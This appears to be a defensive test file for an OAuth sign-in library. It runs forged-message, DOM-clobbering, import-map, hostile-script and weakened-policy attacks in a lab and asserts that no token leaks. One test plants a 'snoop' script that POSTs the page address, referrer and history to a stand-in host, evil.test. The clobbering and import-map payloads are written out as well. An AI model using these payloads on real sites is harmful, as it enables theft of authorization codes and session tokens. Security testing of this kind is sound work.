// ATTACKS H-19, H-22, H-23, H-26, H-33, H-35, H-36: the page around the shell. Forged messages, markup, policies, frames.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { setTimeout as sleep } from "node:timers/promises";
import { test } from "node:test";
import { policy } from "../hostile/app.mjs";
import { attacks, expectSignedIn, realmName } from "../hostile/attack.mjs";
import { HOSTS, QUIET, useLab } from "../hostile/lab.mjs";
import { EARLY, LATE, payloads } from "../hostile/payloads/index.mjs";
import { record } from "../hostile/record.mjs";
import { TARGETS } from "../hostile/targets.mjs";
import { hostilePage } from "../hostile/xss.mjs";

const lab = useLab();
const NO_POLICY = { "content-security-policy": "", "cross-origin-opener-policy": "unsafe-none", "cross-origin-embedder-policy": "unsafe-none" };

async function signedIn(t, id, setting = {}) {
  const made = lab.realm(realmName(id), setting);
  const page = await lab.page(await lab.context(t));
  await expectSignedIn(lab, page, made);
  return { ...made, page };
}

/** A page of the application whose markup is the attacker's, but for the application's own script. */
function withMarkup(id, markup, setting = {}) {
  const name = realmName(id);
  const made = lab.realm(name, setting);
  const body = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Markup</title>${markup}<script type="module" src="https://app.test/app.js"></script></html>`;
  lab.handlers[HOSTS.app].files.set(`/${name}/`, { headers: { ...NO_POLICY, ...setting.headers }, body });
  return made;
}

attacks("messages", () => {
  test("H-19 forged commands on a port of one's own change neither configuration nor session", async (t) => {
    const { page, realm, canary, application } = await signedIn(t, "h-19");
    const before = realm.log.length;
    const replies = await page.evaluate(async (name) => {
      const { port } = new SharedWorker(window.trustedTypes.emptyScript && "/valetkey/vault.js", { name, extendedLifetime: true });
      return port;
    }, JSON.stringify(application.options)).catch((error) => error.message.split("\n")[0]);
    // Under the policy a script of the page cannot even start it: no Trusted Type.
    assert.match(String(replies), /TrustedScriptURL/u);
    assert.equal(realm.log.length, before);
    await lab.sweep(page, canary);
  });

  for (const isolation of ["shared", "worker"]) {
    test(`H-19 forged commands where no policy forbids to connect, ${isolation}: refused by name, nothing sent`, async (t) => {
      const { page, realm, canary, application } = await signedIn(t, "h-19", { headers: NO_POLICY, options: { isolation } });
      const sorted = Object.fromEntries(Object.entries(application.options).filter(([name]) => name !== "isolation").sort(([a], [b]) => (a < b ? -1 : 1)));
      const before = lab.network.log.filter(({ host }) => host.endsWith(HOSTS.evil)).length;
      const { codes, status } = await page.evaluate(async ([name, isolation]) => {
        const channel = new MessageChannel();
        const worker = isolation === "shared" ? new SharedWorker("/valetkey/vault.js", { name, extendedLifetime: true }) : new Worker("/valetkey/vault.js", { name });
        if (isolation === "worker") worker.postMessage(null, [channel.port2]);
        const port = isolation === "shared" ? worker.port : channel.port1;
        const forged = [
          { kind: "config", resources: ["https://evil.test/"] },
          { kind: "session", session: { status: "signed-in", claims: { sub: "evil" } } },
          { kind: "fetch", url: "https://evil.test/x", method: "GET", headers: [], init: { resources: ["https://evil.test/"] } },
          { kind: "fetch", url: "https://api.test/x", method: "GET", headers: [["Authorization", "Bearer x"]], init: {} },
          { kind: "__proto__" },
          { kind: ["ready"] },
          {},
          "ready",
          null,
          { kind: "fetch", url: 1, method: {}, headers: "x" },
        ];
        const answers = new Map();
        const all = new Promise((resolve) => {
          port.onmessage = ({ data }) => {
            if (data.kind !== "error" && data.kind !== "value") return;
            answers.set(data.id ?? `none ${answers.size}`, data.error?.code ?? "answered");
            if (answers.size === forged.length) resolve();
          };
        });
        forged.forEach((message, id) => port.postMessage(typeof message === "object" && message ? { ...message, id } : message));
        await all;
        const { value } = await window.outcome(async () => (await window.client.fetch("https://api.test/after")).status);
        return { codes: [...new Set(answers.values())].sort(), status: [window.client.session.status, value] };
      }, [JSON.stringify(sorted), isolation]);
      // A worker of its own has no session; the shared one has, and lists no other host.
      assert.deepEqual(codes, ["command_invalid", "request_invalid", "resource_not_listed"]);
      assert.deepEqual(status, ["signed-in", 200]);
      assert.equal(lab.network.log.filter(({ host }) => host.endsWith(HOSTS.evil)).length, before);
      assert.equal(realm.requests("token").length, 1);
      await lab.sweep(page, canary);
    });
  }

  test("H-18 a forged callback on the callback page's channel: nothing sent, no session ends", async (t) => {
    const { page, realm, canary, application } = await signedIn(t, "h-18");
    const before = realm.log.length;
    await page.evaluate((url) => {
      const channel = new BroadcastChannel("valetkey");
      for (const message of [{ url }, { url: `${url}&state=vk_x` }, { url: {} }, "x", null, { answers: url, arrival: { location: "//evil.test" } }]) channel.postMessage(message);
    }, `${application.page}?code=forged&state=forged`);
    await sleep(QUIET);
    assert.equal(realm.log.length, before);
    assert.equal(await page.evaluate(() => window.client.session.status), "signed-in");
    await lab.sweep(page, canary);
  });
}, { atOnce: 4 });

attacks("markup", () => {
  const CLOBBERING = ["prerendering", "location", "crypto", "currentScript", "cookie", "addEventListener", "history", "SharedWorker", "Worker", "MessageChannel", "trustedTypes", "fetch", "oidc", "client", "navigator", "URL", "indexedDB"];
  const clobber = CLOBBERING.map((name) => `<form name="${name}" id="${name}"><input name="href" value="https://evil.test/"></form><img name="${name}" alt=""><a id="${name}" href="https://evil.test/"></a>`).join("");

  test("H-22 elements named as what the document and the window have: signs in", async (t) => {
    const made = withMarkup("h-22", clobber);
    const page = await lab.page(await lab.context(t));
    await expectSignedIn(lab, page, made);
    assert.notEqual(await page.evaluate(() => document.prerendering), false, "the markup does clobber");
  });

  test("H-22 a base of another host: signs in, and the code is out of the address", async (t) => {
    const made = withMarkup("h-22", '<base href="https://evil.test/deep/">');
    const page = await lab.page(await lab.context(t));
    await expectSignedIn(lab, page, made);
    assert.equal(new URL(page.url()).origin + new URL(page.url()).pathname, made.application.page);
    assert.equal(new URL(page.url()).searchParams.get("code"), null);
    assert.deepEqual(lab.network.log.filter(({ host }) => host.endsWith(HOSTS.evil)).map(({ path }) => path), []);
  });

  test("H-23 an import map that leads vault.js and vault.wasm elsewhere: they come from where the module is", async (t) => {
    const imports = Object.fromEntries(["vault.js", "vault.wasm", "page.js"].map((name) => [`https://app.test/valetkey/${name}`, `https://evil.test/${name}`]));
    const made = withMarkup("h-23", `<script type="importmap">${JSON.stringify({ imports: { ...imports, "./vault.js": "https://evil.test/vault.js" } })}</script>`);
    const page = await lab.page(await lab.context(t));
    await expectSignedIn(lab, page, made);
    assert.deepEqual(lab.network.log.filter(({ host, path }) => host.endsWith(HOSTS.evil) && /vault|page/u.test(path)), []);
  });

  test("H-23 a vault of another origin: vault_url_foreign", async (t) => {
    const { application } = lab.realm(realmName("h-23"), { options: { vaultUrl: "https://evil.test/vault.js" } });
    const report = await lab.open(await lab.page(await lab.context(t)), application);
    assert.equal(report.error.code, "vault_url_foreign");
  });
}, { atOnce: 4 });

attacks("scripts of others", () => {
  test("H-26 on the static callback page a script after the library's finds no code", async (t) => {
    const html = await readFile(new URL("../../pkg/callback.html", import.meta.url), "utf8");
    const { files } = lab.handlers[HOSTS.app];
    const name = realmName("h-26");
    const snoop = `for (const text of [location.href, document.URL, document.referrer, JSON.stringify(history.state), JSON.stringify((window.navigation?.entries() ?? []).map(({ url }) => url))]) fetch("https://evil.test/snooped", { method: "POST", mode: "no-cors", keepalive: true, body: text });`;
    files.set("/valetkey/snoop.js", { body: snoop });
    files.set(`/valetkey/callback-${name}.html`, { body: html.replace(/<\/body>|<\/html>|$/u, '<script type="module" src="snoop.js"></script>$&').replace("<head>", '$&<link rel="modulepreload" href="snoop.js">') });
    const redirectUri = `https://app.test/valetkey/callback-${name}.html`;
    const made = lab.realm(name, { options: { redirectUri }, signIn: { returnTo: `/${name}/` } });
    const page = await lab.page(await lab.context(t));
    const report = await lab.attempt(page, made.application);
    assert.equal(report.status, "signed-in", JSON.stringify(report));
    assert.ok(lab.network.log.some(({ host, path }) => host === HOSTS.evil && path === "/snooped"), "the script ran");
    await lab.sweep(page, made.canary, { allow: { navigationTiming: ["code", "state"] } });
    record(t, "H-26", "on a page that calls ready() the code is in the address until the vault has redeemed it, where a script of the page can read it without the verifier; the static callback page takes it out first, and tells it the vault on a BroadcastChannel that any script of the origin may hear");
  });

  test("H-33 there is no service worker of the library's to be unregistered", async (t) => {
    const { page } = await signedIn(t, "h-33");
    assert.deepEqual(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope)), []);
  });
}, { atOnce: 4 });

attacks("policies and frames", () => {
  test("H-35 in a sandboxed frame of no origin: refused by name, nothing thrown at import", async (t) => {
    const { files } = lab.handlers[HOSTS.app];
    const made = lab.realm(realmName("h-35"), { headers: { ...NO_POLICY, "cross-origin-resource-policy": "cross-origin" } });
    const name = made.realm.name;
    const readable = { "access-control-allow-origin": "*" };
    // What the frame loads, readable for everybody, as from a CDN: else the module would not even load there.
    const plain = lab.handlers[HOSTS.app];
    lab.handlers[HOSTS.app] = Object.assign(async (request) => {
      const answer = await plain(request);
      return { ...answer, headers: { ...answer.headers, ...readable } };
    }, { files });
    t.after(() => (lab.handlers[HOSTS.app] = plain));
    files.set(`/${name}/outer`, { headers: NO_POLICY, body: `<!doctype html><title>Outer</title><iframe sandbox="allow-scripts" src="/${name}/"></iframe>` });
    const reported = made.application.next();
    const page = await lab.page(await lab.context(t));
    await page.goto(`${made.application.page}outer`);
    const report = await reported;
    assert.equal(report.error?.code, "vault_unreachable", JSON.stringify(report));
    assert.deepEqual(report.troubles, []);
    assert.deepEqual(made.realm.log, []);
  });

  test("H-36 the strictest policy, Trusted Types, isolated from other origins: signs in without a complaint", async (t) => {
    const { page } = await signedIn(t, "h-36");
    assert.equal(await page.evaluate(() => window.crossOriginIsolated), true);
    assert.deepEqual(await page.evaluate(() => window.troubles), []);
  });

  const lacking = {
    "without 'wasm-unsafe-eval'": ["script-src 'self' 'wasm-unsafe-eval'", "script-src 'self'", "wasm_blocked"],
    "without workers": ["worker-src 'self'", "worker-src 'none'", "vault_unreachable"],
    "without the Trusted Types policy": ["trusted-types valetkey", "trusted-types other", "vault_unreachable"],
  };
  for (const [what, [from, to, code]] of Object.entries(lacking)) {
    test(`H-36 a policy ${what}: ${code}`, async (t) => {
      const csp = policy["content-security-policy"].replace(from, to);
      // A worker has the policy of its own response: the vault of this page is one of its own.
      const directory = `/valetkey/${code}-${what.length}/`;
      for (const name of ["vault.js", "vault.wasm"]) {
        const type = name.endsWith(".wasm") ? "application/wasm" : "text/javascript";
        const body = await readFile(new URL(`../../pkg/${name}`, import.meta.url));
        lab.handlers[HOSTS.app].files.set(directory + name, { headers: { "content-security-policy": csp, "content-type": type }, body });
      }
      const { application } = lab.realm(realmName("h-36"), { headers: { "content-security-policy": csp }, options: { vaultUrl: `https://app.test${directory}vault.js` } });
      const report = await lab.open(await lab.page(await lab.context(t)), application);
      assert.equal(report.error?.code, code, JSON.stringify(report));
    });
  }

  for (const [name, position] of [["worker-swap", EARLY], ["silent", LATE], ["silent", EARLY]]) {
    test(`${name === "silent" ? "H-27" : "H-08"} ${name}, ${position}, under the policy of the documentation: no token`, async (t) => {
      const payload = payloads.find((one) => one.name === name);
      const { kinds } = await hostilePage(lab, { context: await lab.context(t), target: TARGETS.valetkey, payload, position, name: realmName("h-36"), settings: { headers: policy } });
      assert.deepEqual(kinds.filter((kind) => ["access", "refresh", "id-token", "verifier"].includes(kind)), []);
    });
  }
}, { atOnce: 4 });
